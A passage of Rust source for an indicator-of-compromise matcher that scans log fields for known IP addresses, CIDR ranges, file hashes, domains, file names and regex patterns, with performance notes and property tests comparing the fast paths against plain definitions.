//! Finding indicators in text (the rules per kind are in the [`super`] documentation).
//!
//! A [`Matcher`] is built once per sweep from the indicators and shared by the sweep's
//! threads. [`Matcher::scan`] looks at one field:
//! 1. one overlapping Aho-Corasick pass (ASCII case-insensitive) over the field finds
//!    the literal values not looked up as tokens (step 5): URLs, e-mail, file paths, user
//!    agents, strings, and the rare domain or file name with other characters; each
//!    candidate then passes or fails its kind's boundary check, and user agents must
//!    match case exactly;
//! 2. IPv4 addresses, CIDR ranges and IPv6 addresses: the IP-looking tokens of the field
//!    (found from its dots and colons with `memchr`) are parsed and looked up by prefix
//!    (an address is a /32 or /128 range), after a bitmap of the /20 blocks any IPv4
//!    indicator touches has ruled most addresses out;
//! 3. MD5, SHA-1 and SHA-256: the runs of 32, 40 or 64 hex digits standing alone are
//!    looked up in a hash map;
//! 4. when there are regular expressions, one `RegexSet` runs over the field, only where a
//!    literal every match of some pattern must contain is found (when each pattern has
//!    one) and where one alternation of all the patterns matches;
//! 5. domains and file names spelled only with letters, digits, `-`, `_` and dots (nearly
//!    all of them) are not in the automaton either: a match of one lies inside a run of
//!    such bytes that holds a dot, starts where the run or a label starts and ends where
//!    the run ends or at a dot, so those few spans of each dotted run (found with
//!    `memchr`) are looked up, lower-cased, by a hash computed while walking left from
//!    their end (a span whose last label ends no indicator, like `1.1` or `x.html` for a
//!    list of domains, stops the walk), then pass the same boundary check as an
//!    automaton candidate.
//!
//! Why IPs and hashes are not in the automaton: logs are full of digits and hex, and
//! thousands of IP and hash patterns keep an Aho-Corasick automaton deep in its trie on
//! such text, so it runs from a cache-missing 50 MB table at about 50 MB/s; without them it
//! stays near its start state and runs about ten times faster (measured with 10,000
//! patterns, see BENCHMARKS.md). Thousands of domains cost the automaton the same on text
//! full of host names (about 370 MB/s per core), while the dotted runs are few and short.
//! Token lookups give the same matches as the boundary rules.
//!
//! Nothing here allocates per field except the caller's reusable `found` buffer (and a
//! list of dot positions for a run with more than 32 dots).

use std::net::{Ipv4Addr, Ipv6Addr};

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use regex::bytes::{RegexSet, RegexSetBuilder};
use rustc_hash::FxHashMap as HashMap;

use super::{Indicator, Kind};
use crate::error::{Error, Result};

/// One literal pattern of the Aho-Corasick automaton.
#[derive(Clone)]
struct Pattern {
    indicator: u32,
    kind: Kind,
    /// The first and last byte of the pattern (for the word-boundary rule of strings).
    first: u8,
    last: u8,
    /// The exact bytes, for kinds whose case matters (user agents).
    exact: Option<Box<[u8]>>,
}

/// Address ranges by prefix length: for each length present, the masked network
/// addresses and the indicators they stand for.
#[derive(Clone)]
struct Nets<T> {
    by_prefix: Vec<(u8, HashMap<T, Vec<u32>>)>,
}

impl<T: Copy + Eq + std::hash::Hash> Nets<T> {
    fn new() -> Self {
        Nets {
            by_prefix: Vec::new(),
        }
    }
    fn is_empty(&self) -> bool {
        self.by_prefix.is_empty()
    }
    fn insert(&mut self, prefix: u8, net: T, indicator: u32) {
        let slot = match self.by_prefix.iter().position(|(p, _)| *p == prefix) {
            Some(i) => i,
            None => {
                self.by_prefix.push((prefix, HashMap::default()));
                self.by_prefix.len() - 1
            }
        };
        self.by_prefix[slot]
            .1
            .entry(net)
            .or_default()
            .push(indicator);
    }
}

/// The compiled form of a set of indicators. Each sweeping thread should have a clone:
/// the regular expressions then have search caches of their own (a shared one hands its
/// cache to the first thread cheaply and to every other one through a lock, per field);
/// the Aho-Corasick automata are shared, the small lookup tables copied.
#[derive(Clone)]
pub struct Matcher {
    count: usize,
    ac: Option<AhoCorasick>,
    patterns: Vec<Pattern>,
    v4: Nets<u32>,
    v6: Nets<u128>,
    /// Lower-case hex digits of MD5, SHA-1 and SHA-256 indicators.
    hashes: HashMap<Vec<u8>, Vec<u32>>,
    /// Domains and file names looked up among the spans of dotted runs, by
    /// [`token_hash`], and the length of the longest.
    tokens: HashMap<u64, Vec<TokenPattern>>,
    longest_token: usize,
    /// Filters in front of the hash maps (most lookups miss): the token hashes, and the
    /// /20 blocks that hold an IPv4 indicator or part of a range.
    token_hashes: BitFilter,
    v4_blocks: BitFilter,
    /// The hashes of the keys' last labels (`com`, `exe`).
    last_labels: BitFilter,
    /// The regular expressions: one alternation of them all, which can stop at the first
    /// match and use their literal parts to skip ahead, and the set that names which
    /// matched (an overlapping search of every pattern over the whole field: run only
    /// where the alternation found something).
    any_regex: Option<regex::bytes::Regex>,
    regex: Option<RegexSet>,
    regex_ids: Vec<u32>,
    /// For each regular expression, literals one of which every match contains (see
    /// [`required_literals`]); `None` when some pattern has none, and the alternation
    /// runs over every field.
    regex_gate: Option<AhoCorasick>,
}

/// Literals one of which every match of `pattern` contains, each at least
/// [`MIN_REQUIRED`] bytes (the longest such choice), or `None` when there are none: a
/// pattern that can match without a literal of its own (`\d+`, `(?i)evil`, whose letters
/// are classes), or whose literals are too short to be worth looking for.
fn required_literals(pattern: &str) -> Option<Vec<Vec<u8>>> {
    let hir = regex_syntax::ParserBuilder::new()
        .utf8(false)
        .build()
        .parse(pattern)
        .ok()?;
    required(&hir).filter(|set| set.iter().all(|l| l.len() >= MIN_REQUIRED))
}

/// The shortest literal worth gating a regular expression on.
const MIN_REQUIRED: usize = 3;
/// The most alternatives a required set may have.
const MAX_REQUIRED: usize = 16;

fn required(hir: &regex_syntax::hir::Hir) -> Option<Vec<Vec<u8>>> {
    use regex_syntax::hir::HirKind;
    match hir.kind() {
        HirKind::Literal(lit) => Some(vec![lit.0.to_vec()]),
        HirKind::Capture(c) => required(&c.sub),
        HirKind::Repetition(r) if r.min >= 1 => required(&r.sub),
        // Every part must match: any part's literals will do; the one whose shortest
        // literal is longest is the rarest to find.
        HirKind::Concat(parts) => parts
            .iter()
            .filter_map(required)
            .max_by_key(|set| set.iter().map(Vec::len).min().unwrap_or(0)),
        // One branch matches: every branch needs literals, and any of them may be the one.
        HirKind::Alternation(branches) => {
            let mut all = Vec::new();
            for b in branches {
                all.extend(required(b)?);
            }
            (all.len() <= MAX_REQUIRED).then_some(all)
        }
        _ => None,
    }
}

/// An automaton of the required literals of every pattern, or `None` when some pattern
/// has none (then nothing can be ruled out without running the patterns).
fn regex_gate(patterns: &[String]) -> Option<AhoCorasick> {
    if patterns.is_empty() {
        return None;
    }
    let mut literals = Vec::new();
    for p in patterns {
        literals.extend(required_literals(p)?);
    }
    AhoCorasick::new(&literals).ok()
}

fn mask4(prefix: u8) -> u32 {
    if prefix == 0 {
        0
    } else {
        u32::MAX << (32 - prefix as u32)
    }
}

fn mask6(prefix: u8) -> u128 {
    if prefix == 0 {
        0
    } else {
        u128::MAX << (128 - prefix as u32)
    }
}

impl Matcher {
    /// Compiles `indicators`; hits are reported as indices into this slice.
    pub fn new(indicators: &[Indicator]) -> Result<Matcher> {
        Self::build(indicators, true)
    }

    /// `use_tokens: false` puts every domain and file name in the automaton (the tests
    /// compare both ways).
    fn build(indicators: &[Indicator], use_tokens: bool) -> Result<Matcher> {
        let mut literals: Vec<Vec<u8>> = Vec::new();
        let mut patterns = Vec::new();
        let mut v4 = Nets::new();
        let mut v6 = Nets::new();
        let mut hashes: HashMap<Vec<u8>, Vec<u32>> = HashMap::default();
        let mut tokens: HashMap<u64, Vec<TokenPattern>> = HashMap::default();
        let mut regexes = Vec::new();
        let mut regex_ids = Vec::new();
        let mut add = |bytes: Vec<u8>, i: u32, kind: Kind| {
            if bytes.is_empty() {
                return;
            }
            patterns.push(Pattern {
                indicator: i,
                kind,
                first: bytes[0],
                last: bytes[bytes.len() - 1],
                exact: (kind == Kind::UserAgent).then(|| bytes.clone().into_boxed_slice()),
            });
            literals.push(bytes);
        };
        for (i, ind) in indicators.iter().enumerate() {
            let i = i as u32;
            match ind.kind {
                Kind::Ipv4 => {
                    let a: Ipv4Addr = ind.value.parse().map_err(|_| bad(ind))?;
                    v4.insert(32, u32::from(a), i);
                }
                Kind::Md5 | Kind::Sha1 | Kind::Sha256 => {
                    hashes
                        .entry(ind.value.to_ascii_lowercase().into_bytes())
                        .or_default()
                        .push(i);
                }
                Kind::Ipv6 => {
                    let a: Ipv6Addr = ind.value.parse().map_err(|_| bad(ind))?;
                    v6.insert(128, u128::from(a), i);
                }
                Kind::Cidr => match ind.value.parse::<ipnet::IpNet>().map_err(|_| bad(ind))? {
                    ipnet::IpNet::V4(n) => v4.insert(n.prefix_len(), u32::from(n.network()), i),
                    ipnet::IpNet::V6(n) => v6.insert(n.prefix_len(), u128::from(n.network()), i),
                },
                Kind::Regex => {
                    regexes.push(ind.value.clone());
                    regex_ids.push(i);
                }
                kind @ (Kind::Domain | Kind::FileName)
                    if use_tokens && is_token(ind.value.as_bytes()) =>
                {
                    let key = ind.value.to_ascii_lowercase().into_bytes();
                    tokens
                        .entry(token_hash(&key))
                        .or_default()
                        .push(TokenPattern {
                            key: key.into(),
                            pattern: Pattern {
                                indicator: i,
                                kind,
                                first: 0,
                                last: 0,
                                exact: None,
                            },
                        });
                }
                kind => {
                    add(ind.value.as_bytes().to_vec(), i, kind);
                    // Raw JSON records escape backslashes and quotes: match that form too.
                    if ind.value.contains(['\\', '"']) {
                        let json = serde_json::to_string(&ind.value)?;
                        add(json.as_bytes()[1..json.len() - 1].to_vec(), i, kind);
                    }
                }
            }
        }
        let ac = if literals.is_empty() {
            None
        } else {
            Some(
                AhoCorasick::builder()
                    .ascii_case_insensitive(true)
                    .match_kind(MatchKind::Standard)
                    .kind(Some(AhoCorasickKind::DFA))
                    .build(&literals)
                    .or_else(|_| {
                        // Too many states for a full DFA: the NFA is slower but fits.
                        AhoCorasick::builder()
                            .ascii_case_insensitive(true)
                            .match_kind(MatchKind::Standard)
                            .build(&literals)
                    })
                    .map_err(|e| Error::Invalid(format!("indicator set: {e}")))?,
            )
        };
        let regex_gate = regex_gate(&regexes);
        let (any_regex, regex) = if regexes.is_empty() {
            (None, None)
        } else {
            let invalid = |e: regex::Error| Error::Invalid(format!("regular expressions: {e}"));
            // Each pattern in its own group: its flags and alternations stay inside it.
            // (A verbose-mode comment would swallow the rest of the alternation, which then
            // does not build: the set alone runs, as it did before.)
            let any: Vec<String> = regexes.iter().map(|r| format!("(?:{r})")).collect();
            (
                regex::bytes::RegexBuilder::new(&any.join("|"))
                    .size_limit(64 << 20)
                    .build()
                    .ok(),
                Some(
                    RegexSetBuilder::new(&regexes)
                        .size_limit(64 << 20)
                        .build()
                        .map_err(invalid)?,
                ),
            )
        };
        let mut token_hashes = BitFilter::new(18);
        let mut last_labels = BitFilter::new(16);
        for (&h, keys) in &tokens {
            token_hashes.insert(h);
            for k in keys {
                let last = k.key.rsplit(|&b| b == b'.').next().unwrap_or(&k.key);
                last_labels.insert(token_hash(last));
            }
        }
        let mut v4_blocks = BitFilter::new(20);
        for (prefix, nets) in &v4.by_prefix {
            for &net in nets.keys() {
                let first = v4_blocks.ipv4_block(net);
                let last = v4_blocks.ipv4_block(net | !mask4(*prefix));
                for block in first..=last {
                    v4_blocks.set(block);
                }
            }
        }
        // Longest prefixes first, so the most specific range is reported first.
        v4.by_prefix.sort_by_key(|n| std::cmp::Reverse(n.0));
        v6.by_prefix.sort_by_key(|n| std::cmp::Reverse(n.0));
        let longest_token = tokens
            .values()
            .flatten()
            .map(|t| t.key.len())
            .max()
            .unwrap_or(0);
        Ok(Matcher {
            count: indicators.len(),
            ac,
            patterns,
            v4,
            v6,
            hashes,
            tokens,
            longest_token,
            token_hashes,
            v4_blocks,
            last_labels,
            any_regex,
            regex,
            regex_ids,
            regex_gate,
        })
    }

    /// How many indicators it looks for.
    pub fn len(&self) -> usize {
        self.count
    }

    pub fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// Appends to `found` the index of every indicator in `text` (an index may appear
    /// more than once).
    pub fn scan(&self, text: &[u8], found: &mut Vec<u32>) {
        if text.is_empty() {
            return;
        }
        // Most fields hold no literal at all: the plain search (which stops at the first
        // candidate) rules them out faster than the overlapping walk that lists them all.
        if let Some(ac) = self.ac.as_ref().filter(|ac| ac.is_match(text)) {
            for m in ac.find_overlapping_iter(text) {
                let p = &self.patterns[m.pattern().as_usize()];
                if bounded(p, text, m.start(), m.end()) {
                    found.push(p.indicator);
                }
            }
        }
        // IPv4 addresses, CIDR ranges and token-like literals all lie in runs of letters,
        // digits, `-`, `_` and dots that hold a dot; IPv6 addresses around a colon. One
        // pass over the dots and colons finds both.
        let dotted = !self.v4.is_empty() || !self.tokens.is_empty();
        let colons = !self.v6.is_empty();
        let mut dots = Dots::default();
        let (mut dot_done, mut colon_done) = (0, 0);
        let mut visit = |pos: usize| {
            if text[pos] == b'.' {
                if pos >= dot_done {
                    let (a, b) = dotted_run_at(text, pos, &mut dots);
                    dot_done = b;
                    if !self.v4.is_empty() {
                        for_each_ipv4_at(text, dots.all(), |addr| self.look_up_v4(addr, found));
                    }
                    if !self.tokens.is_empty() {
                        self.scan_run(text, a, b, dots.all(), found);
                    }
                }
            } else if pos >= colon_done {
                colon_done = ipv6_at(text, pos, |addr| {
                    for (prefix, nets) in &self.v6.by_prefix {
                        if let Some(ids) = nets.get(&(addr & mask6(*prefix))) {
                            found.extend_from_slice(ids);
                        }
                    }
                });
            }
        };
        match (dotted, colons) {
            (true, true) => memchr::memchr2_iter(b'.', b':', text).for_each(&mut visit),
            (true, false) => memchr::memchr_iter(b'.', text).for_each(&mut visit),
            (false, true) => memchr::memchr_iter(b':', text).for_each(&mut visit),
            (false, false) => {}
        }
        if !self.hashes.is_empty() {
            for_each_hex_token(text, |hex| {
                let mut lower = [0u8; 64];
                for (d, s) in lower.iter_mut().zip(hex) {
                    *d = s.to_ascii_lowercase();
                }
                if let Some(ids) = self.hashes.get(&lower[..hex.len()]) {
                    found.extend_from_slice(ids);
                }
            });
        }
        if let Some(set) = &self.regex {
            if self.regex_gate.as_ref().is_none_or(|g| g.is_match(text))
                && self.any_regex.as_ref().is_none_or(|any| any.is_match(text))
            {
                for i in set.matches(text).iter() {
                    found.push(self.regex_ids[i]);
                }
            }
        }
    }

    /// Appends the indicators whose range holds the IPv4 address `addr`.
    fn look_up_v4(&self, addr: u32, found: &mut Vec<u32>) {
        if !self.v4_blocks.may_hold_ipv4(addr) {
            return;
        }
        for (prefix, nets) in &self.v4.by_prefix {
            if let Some(ids) = nets.get(&(addr & mask4(*prefix))) {
                found.extend_from_slice(ids);
            }
        }
    }

    /// Looks up the spans of the dotted run `text[a..b]` that a domain or file name can
    /// match: from the run's start or a label's start to the run's end or a dot that is
    /// not followed by a letter or digit. Each span is hashed while walking left from its
    /// end (so an end costs one pass over at most the longest key); a span whose hash is a
    /// key's is compared byte for byte and then passes [`bounded`].
    fn scan_run(&self, text: &[u8], a: usize, b: usize, dots: &[usize], found: &mut Vec<u32>) {
        // Ends from the right: the run's end, then the dots not followed by a letter or
        // digit.
        let mut ends = dots
            .iter()
            .rev()
            .copied()
            .filter(|&i| i + 1 == b || !text[i + 1].is_ascii_alphanumeric());
        let mut end = b;
        while end > a {
            // Keys neither start nor end with a dot.
            if text[end - 1] != b'.' {
                let lo = end.saturating_sub(self.longest_token).max(a);
                let mut hash = 0u64;
                let mut pow = 1u64;
                let mut s = end;
                let mut last_label = true;
                while s > lo {
                    s -= 1;
                    let c = text[s].to_ascii_lowercase();
                    hash = hash.wrapping_add(u64::from(c).wrapping_mul(pow));
                    pow = pow.wrapping_mul(TOKEN_HASH_BASE);
                    if c == b'.' || (s > a && text[s - 1] != b'.') {
                        continue;
                    }
                    // The span's last label (`com`, `exe`) must end some key.
                    if last_label && !self.last_labels.may_hold(hash) {
                        break;
                    }
                    last_label = false;
                    if !self.token_hashes.may_hold(hash) {
                        continue;
                    }
                    let Some(keys) = self.tokens.get(&hash) else {
                        continue;
                    };
                    for k in keys {
                        if k.key.eq_ignore_ascii_case(&text[s..end])
                            && bounded(&k.pattern, text, s, end)
                        {
                            found.push(k.pattern.indicator);
                        }
                    }
                }
            }
            match ends.next() {
                Some(dot) => end = dot,
                None => break,
            }
        }
    }
}

/// A set of `2^bits` bits: a key's bit set means "maybe", clear means "no".
#[derive(Clone)]
struct BitFilter {
    bits: u32,
    words: Box<[u64]>,
}

impl BitFilter {
    fn new(bits: u32) -> Self {
        BitFilter {
            bits,
            words: vec![0u64; (1usize << bits) / 64].into_boxed_slice(),
        }
    }
    fn set(&mut self, i: usize) {
        self.words[i / 64] |= 1 << (i % 64);
    }
    fn get(&self, i: usize) -> bool {
        self.words[i / 64] & (1 << (i % 64)) != 0
    }
    /// The bit of a 64-bit hash: its top bits after a multiplicative mix.
    fn slot(&self, hash: u64) -> usize {
        (hash.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> (64 - self.bits)) as usize
    }
    fn insert(&mut self, hash: u64) {
        self.set(self.slot(hash));
    }
    fn may_hold(&self, hash: u64) -> bool {
        self.get(self.slot(hash))
    }
    /// The bit of an IPv4 address: its block of the filter's size (/20 for 20 bits).
    fn ipv4_block(&self, addr: u32) -> usize {
        (addr >> (32 - self.bits)) as usize
    }
    fn may_hold_ipv4(&self, addr: u32) -> bool {
        self.get(self.ipv4_block(addr))
    }
}

/// The base of the polynomial hash of token spans ([`Matcher::scan_run`], [`token_hash`]).
const TOKEN_HASH_BASE: u64 = 0x100_0000_01b3;

/// The hash [`Matcher::scan_run`] computes for a span equal to `key` (lower case).
fn token_hash(key: &[u8]) -> u64 {
    key.iter().fold(0u64, |h, &c| {
        h.wrapping_mul(TOKEN_HASH_BASE).wrapping_add(u64::from(c))
    })
}

/// A domain or file name found by [`Matcher::scan_run`].
#[derive(Clone)]
struct TokenPattern {
    /// The value in lower case.
    key: Box<[u8]>,
    pattern: Pattern,
}

/// Whether an indicator value is found by [`Matcher::scan_run`]: letters, digits, `-`, `_`
/// and dots, with a dot inside (not at either end, never two in a row).
fn is_token(value: &[u8]) -> bool {
    value.len() <= 256
        && value.first().is_some_and(|&b| is_label(b))
        && value.last().is_some_and(|&b| is_label(b))
        && value.contains(&b'.')
        && !value.windows(2).any(|w| w == b"..")
        && value.iter().all(|&b| is_label(b) || b == b'.')
}

/// The dots of one dotted run, in order: on the stack, unless the run has very many.
#[derive(Default)]
struct Dots {
    near: [usize; 32],
    len: usize,
    many: Vec<usize>,
}

impl Dots {
    fn clear(&mut self) {
        self.len = 0;
        self.many.clear();
    }
    fn push(&mut self, i: usize) {
        if self.len < self.near.len() {
            self.near[self.len] = i;
            self.len += 1;
        } else {
            if self.many.is_empty() {
                self.many.extend_from_slice(&self.near);
            }
            self.many.push(i);
        }
    }
    fn all(&self) -> &[usize] {
        if self.many.is_empty() {
            &self.near[..self.len]
        } else {
            &self.many
        }
    }
}

/// The maximal run of letters, digits, `-`, `_` and dots whose first dot is `text[dot]`:
/// its bounds, and its dots in `dots`.
fn dotted_run_at(text: &[u8], dot: usize, dots: &mut Dots) -> (usize, usize) {
    let mut a = dot;
    while a > 0 && is_label(text[a - 1]) {
        a -= 1;
    }
    dots.clear();
    dots.push(dot);
    let mut b = dot + 1;
    while b < text.len() {
        let c = text[b];
        if c == b'.' {
            dots.push(b);
        } else if !is_label(c) {
            break;
        }
        b += 1;
    }
    (a, b)
}

fn bad(ind: &Indicator) -> Error {
    Error::Invalid(format!("'{}' is not a valid {}", ind.value, ind.kind))
}

/// Byte classes for the scanning loops, one table lookup each.
const LABEL: u8 = 1;
const HEX: u8 = 2;
const CLASS: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        if c.is_ascii_alphanumeric() || c == b'-' || c == b'_' {
            t[b] |= LABEL;
        }
        if c.is_ascii_hexdigit() {
            t[b] |= HEX;
        }
        b += 1;
    }
    t
};

fn is_label(b: u8) -> bool {
    CLASS[b as usize] & LABEL != 0
}

fn is_hex(b: u8) -> bool {
    CLASS[b as usize] & HEX != 0
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Whether the candidate `text[s..e]` stands on its own, by its kind's rule.
fn bounded(p: &Pattern, text: &[u8], s: usize, e: usize) -> bool {
    let prev = s.checked_sub(1).map(|i| text[i]);
    let prev2 = s.checked_sub(2).map(|i| text[i]);
    let next = text.get(e).copied();
    let next2 = text.get(e + 1).copied();
    let has = |b: Option<u8>, f: fn(u8) -> bool| b.is_some_and(f);
    let digit = |b: u8| b.is_ascii_digit();
    let alnum = |b: u8| b.is_ascii_alphanumeric();
    // "x." followed by more of the same token (evil.com.au, 10.0.0.1.5, a.exe.log)
    let dot_then = |f: fn(u8) -> bool| next == Some(b'.') && has(next2, f);
    match p.kind {
        Kind::Ipv4 => {
            let dotted_before = prev == Some(b'.') && has(prev2, digit);
            !(has(prev, digit) || dotted_before || has(next, digit) || dot_then(digit))
        }
        Kind::Domain => !has(prev, is_label) && !has(next, is_label) && !dot_then(is_label),
        Kind::Email => {
            !has(prev, |b| is_label(b) || b"._%+".contains(&b))
                && !has(next, is_label)
                && !dot_then(is_label)
        }
        Kind::Md5 | Kind::Sha1 | Kind::Sha256 => !has(prev, alnum) && !has(next, alnum),
        Kind::Url => {
            !has(prev, alnum) && !has(next, |b| is_label(b) || b == b'%') && !dot_then(alnum)
        }
        Kind::FileName | Kind::FilePath => {
            !has(prev, |b| is_label(b) || b == b'.') && !has(next, is_label) && !dot_then(alnum)
        }
        Kind::UserAgent => p.exact.as_deref() == Some(&text[s..e]),
        Kind::String => {
            (!is_word(p.first) || !has(prev, is_word)) && (!is_word(p.last) || !has(next, is_word))
        }
        Kind::Ipv6 | Kind::Cidr | Kind::Regex => false,
    }
}

/// Calls `f` with every run of exactly 32, 40 or 64 hex digits that is not part of a
/// longer run of letters and digits.
///
/// Such a run spans at least 32 bytes, so it holds a byte at an offset that is a multiple
/// of 32. Only those bytes are probed; a run is grown around a probe only when the probe
/// and the bytes 4, 8, 12 and 16 away on one side are hex digits (a long enough run covers
/// 16 bytes on one side), and the next probe starts after that run. Log text then costs
/// about one check per 32 bytes, and no byte is grown over twice.
pub fn for_each_hex_token(text: &[u8], mut f: impl FnMut(&[u8])) {
    const STRIDE: usize = 32;
    let n = text.len();
    let hex = |i: usize| is_hex(text[i]);
    let mut p = 0;
    while p < n {
        // A run of 32 or more hex digits through `p` covers `p..=p+16` or `p-16..=p`:
        // sample those every 4 bytes before growing the run byte by byte.
        let covers = |from: usize| hex(from + 4) && hex(from + 8) && hex(from + 12);
        let right = p + 16 < n && hex(p + 16) && covers(p);
        if !hex(p) || !(right || (p >= 16 && hex(p - 16) && covers(p - 16))) {
            p += STRIDE;
            continue;
        }
        let (a, b) = grow(text, p, is_hex);
        let alone = (a == 0 || !text[a - 1].is_ascii_alphanumeric())
            && (b == n || !text[b].is_ascii_alphanumeric());
        if alone && matches!(b - a, 32 | 40 | 64) {
            f(&text[a..b]);
        }
        // `text[b]` is not a hex digit, so a later run starts after it.
        p = (b / STRIDE + 1) * STRIDE;
    }
}

/// The bounds of the longest run of bytes of a class around `text[at]` (which is one).
fn grow(text: &[u8], at: usize, class: impl Fn(u8) -> bool) -> (usize, usize) {
    let mut a = at;
    while a > 0 && class(text[a - 1]) {
        a -= 1;
    }
    let mut b = at + 1;
    while b < text.len() && class(text[b]) {
        b += 1;
    }
    (a, b)
}

/// Calls `f` with every IPv4 address written as a dotted quad, not part of a longer run
/// of digits and dots, around the dots `dots` of `text` (in order).
fn for_each_ipv4_at(text: &[u8], dots: &[usize], mut f: impl FnMut(u32)) {
    let ipc = |b: u8| b.is_ascii_digit() || b == b'.';
    let mut done = 0;
    for &dot in dots {
        if dot < done {
            continue;
        }
        let (a, b) = grow(text, dot, ipc);
        done = b;
        let mut quad = &text[a..b];
        while let [b'.', rest @ ..] = quad {
            quad = rest;
        }
        while let [rest @ .., b'.'] = quad {
            quad = rest;
        }
        if (7..=15).contains(&quad.len()) {
            if let Some(addr) = parse_ipv4(quad) {
                f(addr);
            }
        }
    }
}

/// Calls `f` with every IPv4 address written in `text` as a dotted quad that is not part
/// of a longer run of digits and dots.
pub fn for_each_ipv4(text: &[u8], mut f: impl FnMut(u32)) {
    let dots: Vec<usize> = memchr::memchr_iter(b'.', text).collect();
    for_each_ipv4_at(text, &dots, &mut f);
}

/// A dotted quad as [`Ipv4Addr`]'s parser reads it (four decimal octets up to 255, no
/// leading zeros), without the detour through `str`.
pub fn parse_ipv4(s: &[u8]) -> Option<u32> {
    let mut addr = 0u32;
    let mut parts = 0;
    for part in s.split(|&c| c == b'.') {
        if part.is_empty() || part.len() > 3 || (part.len() > 1 && part[0] == b'0') {
            return None;
        }
        let mut v = 0u32;
        for &c in part {
            if !c.is_ascii_digit() {
                return None;
            }
            v = v * 10 + u32::from(c - b'0');
        }
        parts += 1;
        if v > 255 || parts > 4 {
            return None;
        }
        addr = addr << 8 | v;
    }
    (parts == 4).then_some(addr)
}

/// Calls `f` with every IPv6 address written in `text` (any valid textual form).
pub fn for_each_ipv6(text: &[u8], mut f: impl FnMut(u128)) {
    let mut done = 0;
    for colon in memchr::memchr_iter(b':', text) {
        if colon >= done {
            done = ipv6_at(text, colon, &mut f);
        }
    }
}

/// Calls `f` with the IPv6 address of the run of hex digits, colons and dots around
/// `text[colon]`, if it is one; returns the end of the run.
fn ipv6_at(text: &[u8], colon: usize, mut f: impl FnMut(u128)) -> usize {
    let (a, b) = grow(text, colon, |b| {
        b.is_ascii_hexdigit() || b == b':' || b == b'.'
    });
    let mut run = &text[a..b];
    while let [rest @ .., b'.'] = run {
        run = rest;
    }
    if run.len() < 2 || run.len() > 45 {
        return b;
    }
    let colons = run.iter().filter(|&&c| c == b':').count();
    let compressed = run.windows(2).any(|w| w == b"::");
    if !(compressed || colons == 7) {
        return b;
    }
    if let Some(addr) = std::str::from_utf8(run)
        .ok()
        .and_then(|s| s.parse::<Ipv6Addr>().ok())
    {
        f(u128::from(addr));
    }
    b
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ioc::detect;

    /// A small deterministic generator (xorshift): `next(n)` is below `n`.
    fn below(mut seed: u64) -> impl FnMut(u64) -> u64 {
        move |n| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed % n
        }
    }

    /// The plain definition: every maximal run of letters and digits that is 32, 40 or
    /// 64 hex digits long.
    fn hex_tokens_naive(text: &[u8]) -> Vec<Vec<u8>> {
        text.split(|b| !b.is_ascii_alphanumeric())
            .filter(|r| matches!(r.len(), 32 | 40 | 64) && r.iter().all(u8::is_ascii_hexdigit))
            .map(|r| r.to_vec())
            .collect()
    }

    #[test]
    fn hex_token_probe_finds_what_the_plain_definition_finds() {
        // Runs of every length from 1 to 70 of hex, of hex with a letter g inside or
        // beside, at every offset mod 32, between separators and plain words.
        let mut next = below(0x9e37_79b9_7f4a_7c15);
        let mut total = 0;
        for _ in 0..400 {
            let mut text = Vec::new();
            while text.len() < 600 {
                let len = (next(70) + 1) as usize;
                for _ in 0..len {
                    text.push(b"0123456789abcdefABCDEF"[(next(22)) as usize]);
                }
                match next(5) {
                    0 => text.push(b'g'),
                    1 => text.extend_from_slice(b" user=alice "),
                    2 => text.push(b':'),
                    3 => text.extend_from_slice(&b"  "[..(next(3)) as usize]),
                    _ => text.push(b'='),
                }
            }
            let mut got = Vec::new();
            for_each_hex_token(&text, |t| got.push(t.to_vec()));
            let want = hex_tokens_naive(&text);
            total += want.len();
            assert_eq!(got, want, "text {:?}", String::from_utf8_lossy(&text));
        }
        assert!(total > 100, "the generator made only {total} tokens");
    }

    #[test]
    fn ipv4_scan_matches_the_plain_definition() {
        // The plain definition: every maximal run of digits and dots, without its outer
        // dots, that the standard parser reads as an address.
        fn naive(text: &[u8]) -> Vec<u32> {
            text.split(|b| !(b.is_ascii_digit() || *b == b'.'))
                .filter_map(|r| {
                    let r = std::str::from_utf8(r).unwrap().trim_matches('.');
                    r.parse::<Ipv4Addr>().ok().map(u32::from)
                })
                .collect()
        }
        let mut next = below(0x1234_5678_9abc_def1);
        const OCTETS: [&str; 8] = ["1", "25", "255", "256", "0", "01", "192", ""];
        const SEPS: [&str; 5] = [" ", "x", ".", "..", ":"];
        let mut total = 0;
        for _ in 0..5000 {
            // Dotted groups of 2 to 5 octets (some empty or out of range) between separators.
            let mut text = String::new();
            for _ in 0..1 + next(4) {
                let parts: Vec<&str> = (0..2 + next(4)).map(|_| OCTETS[next(8) as usize]).collect();
                text.push_str(&parts.join("."));
                text.push_str(SEPS[next(5) as usize]);
            }
            let mut got = Vec::new();
            for_each_ipv4(text.as_bytes(), |a| got.push(a));
            let want = naive(text.as_bytes());
            total += want.len();
            assert_eq!(got, want, "text {text:?}");
            for piece in text.split(' ') {
                let std = piece.parse::<Ipv4Addr>().ok().map(u32::from);
                assert_eq!(parse_ipv4(piece.as_bytes()), std, "{piece:?}");
            }
        }
        assert!(
            total > 200,
            "only {total} addresses: the generator is too weak"
        );
    }

    #[test]
    fn token_lookup_finds_what_the_automaton_finds() {
        // Domains and file names built from a few labels, in texts made of the same labels
        // joined by every kind of separator, so spans meet at every sort of boundary.
        let mut next = below(0x2545_f491_4f6c_dd1d);
        const LABELS: [&str; 7] = ["evil", "Com", "a", "x-y", "exe", "co_uk", "9"];
        const SEPS: [&str; 12] = [
            ".", ".", ".", "..", " ", "/", "\\", "@", "-", "_", ":", "\"\"",
        ];
        let mut inds = Vec::new();
        for i in 0..60 {
            let labels = 2 + next(3);
            let value: Vec<&str> = (0..labels).map(|_| LABELS[next(7) as usize]).collect();
            let value = value.join(".").to_ascii_lowercase();
            let kind = if i % 3 == 0 {
                Kind::FileName
            } else {
                Kind::Domain
            };
            inds.push(Indicator { kind, value });
        }
        let tokens = Matcher::build(&inds, true).unwrap();
        let automaton = Matcher::build(&inds, false).unwrap();
        assert!(tokens.ac.is_none() && !tokens.tokens.is_empty());
        let mut total = 0;
